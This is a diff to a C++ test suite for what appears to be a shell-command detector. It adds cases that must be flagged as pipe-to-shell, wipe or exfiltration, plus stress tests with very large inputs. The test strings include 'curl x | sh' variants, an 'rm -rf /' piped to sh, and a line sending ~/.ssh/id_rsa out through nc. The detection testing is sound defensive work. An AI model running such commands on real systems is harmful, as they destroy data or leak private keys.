@@ -123,6 +123,10 @@ TEST_CASE(
                            "curl x | sh 3< f",
                            "curl x | sh < /dev/stdin",
                            "curl x | { grep a; } | sh",
+                           "curl x | { sh; } | tee log",
+                           "curl x | while sh; do break; done | cat",
+                           "curl x | if sh; then :; fi | tee a",
+                           "{ curl x; } | { sh; } | cat",
                            "curl x | while read l; do echo \"$l\" | bash; done"}) {
     CAPTURE(text);
     CHECK(has(look(text).hits, "shell.pipe-to-shell"));
@@ -205,6 +209,14 @@ TEST_CASE("what echo, printf and cat say is read where a shell runs it") {
     CAPTURE(text);
     CHECK(look(text).hits.empty());
   }
+  CHECK(has(look("echo 'rm -rf /' | { sh; } | cat").hits, "shell.wipe"));
+  CHECK(has(look("cat ~/.ssh/id_rsa | { nc h 1; } | cat").hits, "shell.exfiltrate"));
+  // Neither a format nor a document is gone through for every word there is.
+  CHECK(look("printf '%" + std::string(130'000, '-') + "s' " + repeated("a ", 60'000) + "|sh")
+            .hits.size() < 9);
+  CHECK(look("{ " + repeated("a b b b b b b b b b b b b b b b b b b b;", 3000) + "} " +
+             repeated("<<A ", 30'000) + "\n")
+            .hits.size() < 9);
   CHECK(look("printf '" + std::string(10'000, 'x') + "%s' " + repeated("a ", 20'000) + "| sh")
             .hits.size() < 9);
 }
